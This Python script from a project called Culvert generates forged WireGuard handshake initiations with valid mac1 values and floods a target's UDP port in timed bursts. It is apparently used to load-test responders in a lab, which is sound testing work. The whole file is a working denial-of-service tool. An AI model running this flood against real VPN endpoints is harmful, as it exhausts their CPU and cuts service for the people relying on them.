# Copyright (c) 2026, Culvert contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""A flood of forged handshake initiations, run as a script inside a host of the lab.

    forge_peer.py ADDRESS PORT PUBLIC_KEY SECONDS --burst COUNT --pause SECONDS [--mac1 good|bad]

Every message has the right size and a right mac1 (for which the responder's public key is enough: WireGuard
paper, section 5.4.4), so that the responder has to do a Diffie-Hellman computation to see that it is forged;
or, with ``--mac1 bad``, a random one. Prints the number of messages sent.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import os
import socket
import time

DIFFERENT_MESSAGES = 1000


def forged_initiation(public_key: bytes, *, good_mac1: bool = True) -> bytes:
    """An initiation of random content with a right mac1 (or a random one) and no mac2."""
    mac1_key = hashlib.blake2s(b"mac1----" + public_key).digest() if good_mac1 else os.urandom(32)
    body = b"\x01\0\0\0" + os.urandom(112)
    return body + hashlib.blake2s(body, key=mac1_key, digest_size=16).digest() + bytes(16)


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    parser.add_argument("public_key")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--burst", type=int, required=True)
    parser.add_argument("--pause", type=float, required=True)
    parser.add_argument("--mac1", choices=["good", "bad"], default="good")
    options = parser.parse_args()
    public_key = base64.b64decode(options.public_key)
    good = options.mac1 == "good"
    messages = [forged_initiation(public_key, good_mac1=good) for _ in range(DIFFERENT_MESSAGES)]
    end, sent = time.monotonic() + options.seconds, 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as flood:
        flood.connect((options.address, options.port))
        while time.monotonic() < end:
            for number in range(options.burst):
                flood.send(messages[number % DIFFERENT_MESSAGES])
            sent += options.burst
            time.sleep(options.pause)
    print(sent, flush=True)


if __name__ == "__main__":
    main()
